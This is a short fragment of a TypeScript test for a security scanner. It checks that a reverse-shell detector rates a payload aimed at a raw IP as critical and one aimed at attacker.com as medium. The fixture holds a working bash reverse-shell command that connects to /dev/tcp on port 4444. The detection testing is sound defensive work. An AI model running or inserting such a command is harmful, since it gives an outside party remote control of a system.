  const severities = async (address: string): Promise<readonly string[]> => {
    const body = `Steps: "command": "bash -i >& /dev/tcp/${address}/4444 0>&1"`;
    const { findings } = await scan(memoryTree({ 'data/issues.json': JSON.stringify([{ title: 'Shell', body }]) }));
    return findings.filter(({ checkId }) => checkId === 'rce-reverse-shell').map(({ severity }) => severity);
  };
  assert.deepEqual(await severities('attacker.com'), ['medium']);
  assert.deepEqual(await severities('45.9.20.11'), ['critical']);
});
